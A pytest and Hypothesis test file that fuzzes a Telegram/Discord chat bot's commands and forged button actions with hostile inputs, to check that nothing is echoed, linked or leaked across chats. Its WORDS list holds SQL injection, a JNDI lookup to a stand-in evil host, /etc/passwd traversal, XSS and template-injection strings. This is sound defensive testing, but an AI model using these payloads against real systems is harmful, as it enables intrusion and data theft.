"""Hostile words typed into every argument of every command, by a stranger and by an admin; forged presses and links."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.platforms.discord.encode import encode_message as encode_discord
from bot.platforms.local.markup import encode_html
from bot.platforms.telegram.encode import encode_message as encode_telegram
from handlers.actions import MAX_ACTION_BYTES, read_action, read_start
from handlers.base import COMMANDS, Chat, Message, Request
from handlers.chats import Subscription
from handlers.dispatch import answer
from report.doc import ACTIVE, Heading, Item, Note, Paragraph, Quote, Span, Spans
from report.wording import visible
from tests.bot.platforms.discord.reading import DEAD_RULES, read_markdown
from tests.handlers.fakes import NOW, Conversation, MemoryStore, make_report
from tests.hostile.judging import alive_in_telegram, alive_on_a_page

STRANGER, ADMIN = "7", "1"
HERE, ELSEWHERE, GROUP = Chat("telegram", "55"), Chat("telegram", "66"), Chat("telegram", "-5", "group", "群")
OURS = {f"https://x.com/lab/status/20087000000000000{number:02}" for number in range(1, 11)}
OUR_LINK = re.compile(r"https://x\.com/lab/status/[0-9]+")
MOST_MESSAGES, MOST_CHARACTERS, MOST_ECHOED = 3, 6_000, 40
AS_TITLE = {"ask": 60}  # a question stands over its answer
WORDS = [
    "@everyone", "@here @TuibaoBot", "<@123> <#1> <@&5>", "/regenerate ai", "#词云", "tg://user?id=1",
    "t.me/evil?start=x", "https://evil.invalid/login", "[点我](https://evil.invalid)",
    "![x](https://evil.invalid/p.png)", "javascript:alert(1)", "<script>alert(1)</script>",
    "<a href='https://evil.invalid'>x</a>", "</details><b>", "&lt;b&gt;&#x202e;", "**粗** __x__ ~~y~~ `z` ||s||",
    "```\n# 标题\n```", "> 引用\n>>> 更多", "|a|b|\n|-|-|", "`", "``` /brief", "'; DROP TABLE chats; --",
    "' OR 1=1 --", "{0.__class__.__mro__}", "{name}", "%s%s%n", "${jndi:ldap://evil.invalid}", "{{ 7*7 }}",
    "{% include x %}", "../../../etc/passwd", "..\\..\\x", "\x00\x1b[31mred\x07", "\u202e\u2066昨天\u2069",
    "\u200b\u200d\ufeff", "Z\u0351\u0352\u0353\u0354\u0355algo" * 9, "\U000e0041\U000e0042", "\ud800",
    "👨‍👩‍👧‍👦" * 50, "长" * 1_990, "x" * 100_000, "\n" * 3_000, "ai\n昨天\n3", "ai\t2026-01-07\r\n/status", "0",
    "-1", "3", "99999999999999999999", "9" * 500, "1e309", "NaN", "٣٣", "２０２６", "twitter_ai_99999999_99999999",
    "twitter_ai_20260107_20260107\n", "range_ai_20260101_20260107", "twitter_../../x_20260107_20260107",
    "0000-00-00..9999-99-99", "9999-12-31", "ai ai ai ai", "all", "restore https://evil.invalid/status/1",
    "restore 99999999999999999999", "undo 1", "timezone ../../etc", "08:00 25:61",
]  # fmt: skip
FRAMES = ["{}", "ai {}", "ai 2026-01-07 {}", "2026-01-06 2026-01-07 {}", "restore {}"]
both_users = pytest.mark.parametrize("user", [STRANGER, ADMIN], ids=["stranger", "admin"])


def conversation() -> Conversation:
    reports = [make_report(day) for day in (5, 6, 7)]
    return Conversation(MemoryStore({report.key: report for report in reports}))


async def hear(talk: Conversation, request: Request) -> list[Message]:
    return [message async for message in answer(request, talk.services)]


def lines(message: Message) -> Iterator[Spans]:
    for block in (block for doc in (message.doc, *message.more) for block in doc.blocks):
        match block:
            case Heading(found) | Paragraph(found) | Note(found):
                yield found
            case Item(headline, found):
                yield (Span(headline),)
                yield found
            case Quote(quoted):
                yield from quoted


def check_line(spans: Spans) -> None:
    """Our links and commands alone; nothing else that a chat would make a mention or a link of; nothing invisible."""
    assert {span.url for span in spans if span.url and not OUR_LINK.fullmatch(span.url)} == set()
    bare = "".join("x" * len(span.text) if span.code else span.text for span in spans)
    ours = {f"/{name}" for name, command in COMMANDS.items() if not command.admin}
    assert {found[0] for found in ACTIVE.finditer(bare)} <= ours
    assert visible(bare) == bare


def check(messages: Sequence[Message], typed: str, *, echoed: int = MOST_ECHOED) -> None:
    """What holds of every answer, whatever was typed."""
    buttons = [button for message in messages for row in message.buttons for button in row]
    said = [message.doc.plain() for message in messages]
    assert len(messages) <= MOST_MESSAGES
    assert sum(map(len, said)) <= MOST_CHARACTERS
    assert not any(words.startswith("这次没答上来") for words in said)
    for message in messages:
        for line in lines(message):
            check_line(line)
    for button in buttons:
        assert len(button.action.encode()) <= MAX_ACTION_BYTES
        assert read_action(button.action)
        assert visible(button.label) == button.label
    shown = "\n".join([*said, *(f"{button.label}\n{button.action}" for button in buttons)])
    windows = {typed[at : at + echoed + 1] for at in range(min(len(typed) - echoed, 3_000))}
    assert not [window for window in windows if window in shown]


@both_users
@pytest.mark.parametrize("name", sorted(COMMANDS))
async def test_no_command_is_upset_by_hostile_words(name: str, user: str, caplog: pytest.LogCaptureFixture) -> None:
    talk, echoed = conversation(), AS_TITLE.get(name, MOST_ECHOED)
    for words in WORDS:
        for frame in FRAMES:
            typed = frame.format(words)
            check(await hear(talk, Request(HERE, user, name, typed)), typed, echoed=echoed)
        check(await hear(talk, Request(GROUP, user, name, words, language="en")), words, echoed=echoed)
    assert [record for record in caplog.records if record.exc_info] == []


@pytest.mark.parametrize("name", ["brief", "subscribe", "unsubscribe", "nonsense"])
async def test_what_is_repeated_of_it_comes_alive_on_no_platform(name: str) -> None:
    talk = conversation()
    for words in WORDS:
        for message in await hear(talk, Request(HERE, STRANGER, name, words)):
            assert [alive for part in encode_telegram(message) for alive in alive_in_telegram(part, OURS)] == []
            assert alive_on_a_page(str(encode_html(message.doc)), OURS) == []
            for part in encode_discord(message):
                shown = [part.get("content", ""), *(embed.get("description", "") for embed in part.get("embeds", ()))]
                for seen in map(read_markdown, shown):
                    assert {url for _, url in seen.links} <= OURS
                    assert seen.made.isdisjoint(DEAD_RULES)


@both_users
@given(st.sampled_from(sorted(COMMANDS)), st.sampled_from(FRAMES), st.text(max_size=300))
async def test_no_command_is_upset_by_anything_typed(user: str, name: str, frame: str, words: str) -> None:
    typed = frame.format(words.replace("{", "(").replace("}", ")"))
    messages = await hear(conversation(), Request(HERE, user, name, typed))
    check(messages, typed, echoed=AS_TITLE.get(name, MOST_ECHOED))


@given(st.text(max_size=400))
async def test_an_unknown_name_is_not_repeated_but_for_its_letters(name: str) -> None:
    typed = f"x{name}"
    messages = await hear(conversation(), Request(HERE, STRANGER, typed))
    check(messages, typed)
    assert len(messages) == 1


@pytest.mark.parametrize(
    "forged",
    [
        *("c:regenerate ai", "c:status", "c:ledger restore 2008700000000000005", "s:regenerate:ai", "s:stats:x"),
        *(
            "s:brief:twitter_ai_20260107_20260107_x",
            "s:detail:twitter_ai_99999999_99999999",
            "s:nothing:x",
            "c:",
            "s::",
        ),
        *(
            "c:brief " + "9" * 90,
            "c:unsubscribe all",
            "c:range 0000-00-00 9999-99-99",
            "s:brief:../../x",
            "\u202ec:brief",
        ),
    ],
)
async def test_forged_presses_and_links_do_what_their_sender_may(forged: str) -> None:
    talk = conversation()
    others = Subscription(chat=ELSEWHERE.key, topic="ai", created_at=NOW)
    talk.store.held = [others]
    for asked in (read_action(forged), read_start(forged.replace(":", "-"))):
        if asked:
            echoed = AS_TITLE.get(asked[0], MOST_ECHOED)
            check(await hear(talk, Request(HERE, STRANGER, *asked, pressed=True)), asked[1], echoed=echoed)
    assert talk.newsroom.made == []
    assert talk.store.brought_back == {}
    assert talk.store.held == [others]


@given(st.text(alphabet="sc:-_ abcdefgi0123456789\n@/", max_size=70))
async def test_anything_behind_a_button_is_refused_or_answered(forged: str) -> None:
    for asked in (read_action(forged), read_start(forged)):
        if asked:
            echoed = AS_TITLE.get(asked[0], MOST_ECHOED)
            check(await hear(conversation(), Request(HERE, STRANGER, *asked, pressed=True)), asked[1], echoed=echoed)


async def test_nothing_that_a_stranger_says_reaches_another_chat() -> None:
    """He says a word that stands nowhere else, in every command; then everybody else asks everything."""
    talk, canary = conversation(), "ZEBRAQUARTZ"
    others = [Subscription(chat=ELSEWHERE.key, topic="ai", created_at=NOW)]
    talk.store.held = list(others)
    for name in COMMANDS:
        for frame in FRAMES:
            await hear(talk, Request(HERE, STRANGER, name, frame.format(canary)))
            await hear(talk, Request(HERE, STRANGER, name, frame.format(f"{canary} 08:00")))
    assert [each for each in talk.store.held if each.chat != HERE.key] == others
    assert talk.store.chats.keys() <= {HERE.key}
    assert canary not in str(talk.store.reports)
    for chat, user in ((ELSEWHERE, "8"), (GROUP, "9"), (ELSEWHERE, ADMIN)):
        for name in COMMANDS:
            for message in await hear(talk, Request(chat, user, name)):
                assert canary not in str(message)
